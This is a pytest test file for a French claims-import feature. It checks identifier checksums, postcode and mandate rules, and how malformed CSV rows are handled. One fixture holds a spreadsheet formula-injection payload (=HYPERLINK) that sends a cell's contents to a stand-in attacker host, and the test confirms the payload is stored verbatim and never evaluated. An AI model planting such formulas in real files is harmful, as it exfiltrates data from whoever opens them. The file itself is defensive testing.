"""The identifier, postcode and mandate rules through a real file import and through the API service.

A French Excel CSV (``;``, Latin-1, CRLF) of B2B claims: every row's outcome is stated — placed, or
refused with its row, the creditor's column, the value and the code, also in the error report.
"""

from __future__ import annotations

import codecs
import csv
import io
from datetime import date, timedelta
from pathlib import Path

import pytest

from relance.claims.models import Claim
from relance.core.errors import ValidationError
from relance.intake.imports import import_create, import_error_report, import_run
from relance.intake.models import ImportBatch
from relance.tenancy.actors import Actor

pytestmark = pytest.mark.django_db

ACTOR = Actor.system("tests")
INVOICED = (date.today() - timedelta(days=40)).strftime("%d/%m/%Y")
HEADER = [
    "Référence", "Date de facture", "Montant", "Raison sociale", "Nom", "SIREN", "SIRET",
    "N° TVA intracommunautaire", "IBAN", "E-mail", "Téléphone", "Code postal", "Ville", "Pays",
]  # fmt: skip


def row(ref: str, **changes: str) -> list[str]:
    values = {
        "Référence": ref,
        "Date de facture": INVOICED,
        "Montant": "1 250,00",
        "Raison sociale": f"Bureau {ref} SARL",
        "Nom": "",
        "SIREN": "",
        "SIRET": "732 829 320 00074",
        "N° TVA intracommunautaire": "FR 44 732 829 320",
        "IBAN": "FR76 3000 6000 0112 3456 7890 189",
        "E-mail": f"compta.{ref.lower()}@example.fr",
        "Téléphone": "05 56 00 00 00",
        "Code postal": "33000",
        "Ville": "Bordeaux",
        "Pays": "France",
        **changes,
    }
    return [values[c] for c in HEADER]


TVA = "N° TVA intracommunautaire"
ROWS = [
    row("B-1"),  # 2: placed; the SIREN comes from the SIRET
    row("B-2", SIRET="73282932000075"),  # 3
    row("B-3", **{TVA: "FR45732829320"}),  # 4
    row("B-4", IBAN="FR76 3000 6000 0112 3456 7890 188"),  # 5
    # 6 and 7: no SIREN is asked of a Belgian or a Dutch company (INSEE numbers are French)
    row("B-5", Pays="Belgique", Téléphone="+32 2 555 12 12", **{"Code postal": "10000", "SIRET": "", TVA: ""}),
    row("B-6", Pays="Pays-Bas", Téléphone="+31 20 555 1234", **{"Code postal": "1012ab", "SIRET": "", TVA: ""}),
    row("B-7", Téléphone=""),  # 8: the mandate requires a phone
    row("B-8", SIREN="552 100 554"),  # 9: the SIRET is not this SIREN's
    row("B-9", **{"Raison sociale": "", "Nom": "Martin", "SIRET": "", TVA: ""}),  # 10: a person, no SIREN asked
]
EXPECTED_ISSUES = [
    (3, "SIRET", "73282932000075", "siret.checksum"),
    (4, "N° TVA intracommunautaire", "FR45732829320", "vat.checksum"),
    (5, "IBAN", "FR76 3000 6000 0112 3456 7890 188", "iban.checksum"),
    (6, "Code postal", "10000", "postcode.invalid"),
    (8, "Téléphone", "", "mandate.required"),
    (9, "SIRET", "732 829 320 00074", "siret.siren_mismatch"),
    (9, TVA, "FR 44 732 829 320", "vat.siren_mismatch"),
]


def french_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows(rows)
    return out.getvalue().encode("latin-1")


@pytest.fixture
def imported(world, settings, tmp_path: Path) -> ImportBatch:
    settings.MEDIA_ROOT = tmp_path / "media"
    world.creditor.required_fields = ["debtor.phone", "debtor.siren"]  # SIREN: of companies only
    world.creditor.save()
    batch = import_create(
        creditor=world.creditor, content=io.BytesIO(french_csv(ROWS)), filename="b2b.csv", actor=ACTOR
    )
    import_run(batch=batch, actor=ACTOR)
    batch.refresh_from_db()
    return batch


def test_each_row_is_placed_or_refused_with_row_column_value_and_code(imported: ImportBatch, world) -> None:
    assert imported.status == ImportBatch.Status.DONE, imported.message
    assert (imported.rows_total, imported.rows_created, imported.rows_invalid) == (9, 3, 6)
    assert list(imported.issues.values_list("row", "column", "value", "code")) == EXPECTED_ISSUES
    placed = {c.external_ref: c.debtor for c in Claim.objects.filter(creditor=world.creditor).select_related("debtor")}
    assert set(placed) == {"B-1", "B-6", "B-9"}
    assert (placed["B-1"].kind, placed["B-1"].siren) == ("company", "732829320")
    # The checked identifiers are kept, normalised: the bank matching uses the IBAN (PAY-06 step 4).
    assert (placed["B-1"].siret, placed["B-1"].vat_number, placed["B-1"].iban) == (
        "73282932000074",
        "FR44732829320",
        "FR7630006000011234567890189",
    )
    assert (placed["B-6"].country, placed["B-6"].postcode) == ("NL", "1012 AB")
    assert placed["B-9"].kind == "person"  # no SIREN asked of a person


def test_the_error_report_carries_the_new_codes_in_both_languages(imported: ImportBatch) -> None:
    out = io.StringIO()
    import_error_report(batch=imported, out=out)
    report = list(csv.reader(io.StringIO(out.getvalue())))
    assert report[0] == ["row", "column", "value", "code", "message"]
    assert [(int(r[0]), r[1], r[2], r[3]) for r in report[1:]] == EXPECTED_ISSUES
    by_code = {r[3]: r[4] for r in report[1:]}
    assert by_code["mandate.required"] == (
        "The creditor's mandate requires the phone number, and it is empty / "
        "Le mandat du créancier exige le numéro de téléphone, qui est vide"
    )
    assert "'10000'" in by_code["postcode.invalid"]
    assert "Belgian" in by_code["postcode.invalid"]
    assert "belge" in by_code["postcode.invalid"]


def test_the_api_path_applies_the_mandate_too(world, place) -> None:
    world.creditor.required_fields = ["debtor.phone"]
    world.creditor.save()
    with pytest.raises(ValidationError) as refused:
        place("API-1", phone="")
    assert [e["code"] for e in refused.value.fields["errors"]] == ["mandate.required"]
    assert place("API-2").created
    assert place("API-3", creditor=world.other_creditor, phone="").created  # another creditor's mandate


def test_the_api_path_checks_and_normalises_identifiers(world, place) -> None:
    placed = place("API-4", iban="fr76 3000 6000 0112 3456 7890 189", siret="73282932000074", vat_number="")
    debtor = placed.claim.debtor
    assert (debtor.kind, debtor.siren) == ("person", "732829320")  # a sole trader: the SIREN from the SIRET
    with pytest.raises(ValidationError) as refused:
        place("API-5", iban="FR7630006000011234567890188")
    assert [e["code"] for e in refused.value.fields["errors"]] == ["iban.checksum"]


# --- the issue's ugly-file list, through the whole import: each row's exact outcome ----------------------

UGLY_HEADER = "Référence;Date de facture;Montant;Nom;E-mail;Code postal;Libellé"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
HUGE = "x" * 10_000_000


def ugly_file() -> bytes:
    def line(*cells: str) -> str:
        return ";".join(f'"{c.replace(chr(34), chr(34) * 2)}"' if any(x in c for x in ';"\n') else c for c in cells)

    rows = [
        UGLY_HEADER,
        line("U-1", INVOICED, "120,50", "Martin", "m@example.fr", "33000", "ok"),  # 2 placed
        line("U-1", INVOICED, "80,00", "Martin", "m@example.fr", "33000", "same ref"),  # 3 duplicate
        line("U-3", INVOICED, "0", "Durand", "d3@example.fr", "33000", "zero"),  # 4
        line("U-4", INVOICED, "-12,50", "Durand", "d4@example.fr", "33000", "negative"),  # 5
        line("U-5", INVOICED, "12,345", "Durand", "d5@example.fr", "33000", "three decimals"),  # 6
        line("U-6", "31/02/2026", "12,00", "Durand", "d6@example.fr", "33000", "impossible date"),  # 7
        line("U-7", INVOICED, "douze euros", "Durand", "d7@example.fr", "33000", "text amount"),  # 8
        line("U-8", INVOICED, "15,00", FORMULA, "d8@example.fr", "33000", "formula"),  # 9 placed, kept verbatim
        line("U-9", INVOICED, "15,00", "Durand", "d9@example.fr", "33000", HUGE),  # 10 a 10 MB field
        line("U-10", INVOICED, "1 000,00", "Lefèvre", "l@example.fr", "75002", "a line\nbreak"),  # 11 placed
    ]
    return codecs.BOM_UTF8 + "\r\n".join(rows).encode("utf-8") + b"\r\n"


def test_the_ugly_rows_of_the_issue_each_get_their_stated_outcome(world, settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    batch = import_create(creditor=world.creditor, content=io.BytesIO(ugly_file()), filename="ugly.csv", actor=ACTOR)
    import_run(batch=batch, actor=ACTOR)
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.DONE, batch.message
    issues = [(r, c, v[:20], code) for r, c, v, code in batch.issues.values_list("row", "column", "value", "code")]
    assert issues == [
        (3, "Référence", "U-1", "ref.duplicate_in_file"),
        (4, "Montant", "0", "amount.not_positive"),
        (5, "Montant", "-12,50", "amount.not_positive"),
        (6, "Montant", "12,345", "amount.too_many_decimals"),
        (7, "Date de facture", "31/02/2026", "date.impossible"),
        (8, "Montant", "douze euros", "amount.not_a_number"),
        (10, "Libellé", "x" * 20, "field.too_long"),
    ]
    assert len(batch.issues.get(row=10).value) <= 201  # the report carries a clipped value, not 10 MB
    placed = dict(Claim.objects.values_list("external_ref", "original_amount_minor"))
    assert placed == {"U-1": 12050, "U-8": 1500, "U-10": 100000}
    assert Claim.objects.get(external_ref="U-8").debtor.last_name == FORMULA  # data, never evaluated
    assert Claim.objects.get(external_ref="U-10").description == "a line\nbreak"
    out = io.StringIO()
    import_error_report(batch=batch, out=out)
    assert len(out.getvalue()) < 10_000  # the 10 MB value is not copied into the report
